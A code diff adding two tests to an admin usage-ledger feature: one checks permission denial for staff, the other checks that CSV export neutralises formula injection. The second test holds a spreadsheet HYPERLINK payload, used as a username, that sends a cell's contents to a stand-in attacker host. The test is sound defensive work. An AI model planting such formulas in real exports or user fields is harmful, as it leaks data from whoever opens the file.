@@ -184,3 +184,21 @@ def test_past_costs_keep_the_price_of_their_day(alice: User, chat_model: ModelCo
     chat_model.save()
     first.refresh_from_db()
     assert float(first.cost) == pytest.approx(0.14)
+
+
+def test_staff_without_the_ledger_permission_get_403(alice: User) -> None:
+    clerk = User.objects.create_user("clerk", password="x", is_staff=True)
+    client = client_for(clerk)
+    for url in ["/admin/usage/", "/admin/usage/export.csv"]:
+        assert client.get(url).status_code == 403, url
+
+
+def test_exported_text_cannot_run_as_a_spreadsheet_formula(
+    staff: User, chat_model: ModelConfig
+) -> None:
+    sneaky = User.objects.create_user('=HYPERLINK("https://evil.example/?"&A2,"x")', password="x")
+    spend(sneaky, chat_model, hit=0, miss=10, completion=5)
+    export = client_for(staff).get("/admin/usage/export.csv").content.decode()
+    rows = list(csv.DictReader(io.StringIO(export)))
+    assert [r["user"] for r in rows] == ['\'=HYPERLINK("https://evil.example/?"&A2,"x")']
+    assert rows[0]["total_tokens"] == "15"  # numbers stay numbers
